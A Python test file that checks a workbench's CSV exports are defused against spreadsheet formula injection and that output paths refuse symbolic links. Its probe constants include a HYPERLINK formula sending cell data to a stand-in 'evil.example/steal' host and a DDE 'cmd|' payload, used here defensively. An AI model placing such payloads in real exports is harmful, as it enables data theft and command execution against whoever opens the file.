"""Exports safe to open (issue 54 item 4):

- every CSV the workbench writes goes through ``workbench.export.sheets`` (a source check, as
  ``test_decision`` finds a second threshold comparison), and every text cell starting with
  ``=``, ``+``, ``-``, ``@``, tab or CR comes out with a leading apostrophe — the issue's
  probes (a note ``=HYPERLINK("http://evil.example/steal?d="&B2,"details")``, a case id
  ``-2+3+cmd|``) through the Review download's rows, the annotation export and
  ``scaling-outcomes``;
- ``--out`` of ``export-verdicts``, ``annotate export``, ``annotate report --out-csv``,
  ``graph export`` and ``scaling-outcomes`` refuses a symbolic link and an existing file
  (exit 2, nothing written through the link), and with ``--force`` replaces the link itself.
"""

from __future__ import annotations

import ast
import csv
import io
import json
from pathlib import Path

import pandas as pd
import pytest

from store.annotation import add_labels
from store.db import make_engine
from workbench.annotation.labels import RULE_CORRECTNESS, Label
from workbench.cli import main
from workbench.export.sheets import csv_text, formula_cells, frame_csv, neutral_cell
from workbench.identity.roles import COMMAND_LINE

ROOT = Path(__file__).resolve().parents[1]
DEMO = ROOT / "fixtures" / "demo"
HYPERLINK = '=HYPERLINK("http://evil.example/steal?d="&B2,"details")'
CMD = "-2+3+cmd|' /C calc'!A0"
PROBES = [HYPERLINK, CMD, "+1+1", "@SUM(A1:A2)", "\t=1", "\r=1", "=1+1"]


def test_every_formula_start_is_defused_and_numbers_stay_numbers():
    text = csv_text([{"note": p, "n": -0.5, "k": 3, "none": None} for p in PROBES])
    assert formula_cells(text) == []
    rows = list(csv.DictReader(io.StringIO(text)))
    assert [r["note"] for r in rows] == ["'" + p for p in PROBES]
    assert {r["n"] for r in rows} == {"-0.5"} and {r["none"] for r in rows} == {""}
    assert neutral_cell("plain") == "plain" and neutral_cell("a=b") == "a=b"


def test_the_review_download_rows_are_neutral():
    """The rows pages/_review_queue.py builds for "Download all decisions (CSV)", with the
    issue's note and case id, written the way the page writes them."""
    rows = [{"when (UTC)": "2026-12-01T10:00:00", "reviewer": "@mallory", "run": "r1",
             "case": CMD, "strategy": "cdg", "decision": "overturn", "note": HYPERLINK,
             "record": 1, "undoes": None}]
    text = frame_csv(pd.DataFrame(rows))
    assert formula_cells(text) == []
    assert pd.read_csv(io.StringIO(text))["record"].tolist() == [1]  # numbers stay numbers
    assert "'" + HYPERLINK in list(csv.reader(io.StringIO(text)))[1]


def test_every_csv_the_workbench_writes_goes_through_the_one_writer():
    """No ``to_csv(`` of pandas and no ``csv.writer`` outside workbench/export/sheets.py in the
    product, the lab or the pages (fixtures' generators and benchmarks make inputs)."""
    found = []
    for folder in ("workbench", "pages", "components", "store"):
        for path in sorted((ROOT / folder).rglob("*.py")):
            if path == ROOT / "workbench" / "export" / "sheets.py":
                continue
            for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
                if isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute) and (
                        node.func.attr in ("to_csv", "DictWriter") or (
                        node.func.attr == "writer" and getattr(node.func.value, "id", "") == "csv")):
                    found.append(f"{path.relative_to(ROOT)}:{node.lineno}")
    assert found == [], "write CSV with workbench.export.sheets (csv_text / frame_csv)"


def test_the_annotation_export_is_neutral(tmp_path, capsys):
    url = f"sqlite:///{tmp_path / 'a.db'}"
    engine = make_engine(url)
    add_labels(engine, [Label("desk/R1", RULE_CORRECTNESS, "@mallory", "incorrect",
                              note=HYPERLINK, error_type="wrong_action")], actor=COMMAND_LINE)
    out = tmp_path / "labels.csv"
    assert main(["annotate", "export", "--db", url, "--format", "csv", "--out", str(out)]) == 0
    text = out.read_text(encoding="utf-8")
    [row] = list(csv.DictReader(io.StringIO(text)))
    assert formula_cells(text) == []
    assert row["note"] == "'" + HYPERLINK and row["annotator"] == "'@mallory"
    engine.dispose()


# -- --out ---------------------------------------------------------------------------------------

def _commands(tmp_path: Path) -> dict[str, list[str]]:
    db = f"sqlite:///{tmp_path / 'w.db'}"
    return {
        "export-verdicts": ["export-verdicts", str(DEMO / "traces_cdg.jsonl"), "--format",
                            "langfuse", "--out"],
        "annotate export": ["annotate", "export", "--db", db, "--format", "csv", "--out"],
        "annotate report": ["annotate", "report", "--index", str(DEMO / "index.json"), "--db", db,
                            "--out-csv"],
        "graph export": ["graph", "export", str(DEMO / "index.json"), "--out"],
        "scaling-outcomes": ["scaling-outcomes", str(DEMO / "traces_cdg.jsonl"), "--cases",
                             str(DEMO / "cases.jsonl"), "--index", str(DEMO / "index.json"),
                             "--params-b", "1.5", "--out"],
    }


@pytest.mark.parametrize("command", ["export-verdicts", "annotate export", "annotate report",
                                     "graph export", "scaling-outcomes"])
def test_out_never_follows_a_link_nor_replaces_a_file_unless_forced(tmp_path, capsys, command):
    argv = _commands(tmp_path)[command]
    victim = tmp_path / "victim.txt"
    victim.write_text("precious\n", encoding="utf-8")
    link = tmp_path / "out.csv"
    link.symlink_to(victim)
    assert main([*argv, str(link)]) == 2
    err = capsys.readouterr().err
    assert "symbolic link" in err and "--force" in err
    assert victim.read_text(encoding="utf-8") == "precious\n" and link.is_symlink()
    # --force replaces the link itself with the file; what it pointed to is untouched.
    assert main([*argv, str(link), "--force"]) == 0, capsys.readouterr().err
    assert not link.is_symlink() and link.stat().st_size > 0
    assert victim.read_text(encoding="utf-8") == "precious\n"
    # An existing file: refused, left as it is; replaced with --force.
    link.write_bytes(b"mine\n")
    assert main([*argv, str(link)]) == 2
    assert "exists; it is not replaced" in capsys.readouterr().err
    assert link.read_bytes() == b"mine\n"
    assert main([*argv, str(link), "--force"]) == 0
    assert link.read_bytes() not in (b"mine\n", b"")
    # A new file is simply written; no temporary file is left beside it.
    fresh = tmp_path / "fresh" / "out.csv"
    assert main([*argv, str(fresh)]) == 0 and fresh.stat().st_size > 0
    assert [p.name for p in fresh.parent.iterdir()] == ["out.csv"]


def test_scaling_outcomes_csv_is_neutral(tmp_path):
    cases = [json.loads(line) for line in (DEMO / "cases.jsonl").read_text().splitlines()]
    traces = [json.loads(line) for line in (DEMO / "traces_cdg.jsonl").read_text().splitlines()]
    renamed = {c["id"]: CMD + c["id"] for c in cases}
    for c in cases:
        c["id"], c["session"] = renamed[c["id"]], HYPERLINK
    for t in traces:
        t["id"] = renamed.get(t["id"], t["id"])
    (tmp_path / "c.jsonl").write_text("".join(json.dumps(c) + "\n" for c in cases))
    (tmp_path / "t.jsonl").write_text("".join(json.dumps(t) + "\n" for t in traces))
    out = tmp_path / "o.csv"
    assert main(["scaling-outcomes", str(tmp_path / "t.jsonl"), "--cases", str(tmp_path / "c.jsonl"),
                 "--index", str(DEMO / "index.json"), "--params-b", "1.5", "--dataset", "=evil()",
                 "--out", str(out)]) == 0
    text = out.read_text(encoding="utf-8")
    rows = list(csv.DictReader(io.StringIO(text)))
    assert formula_cells(text) == [] and rows
    assert {r["dataset"] for r in rows} == {"'=evil()"}
    assert all(r["instance"].startswith("'" + CMD) for r in rows)
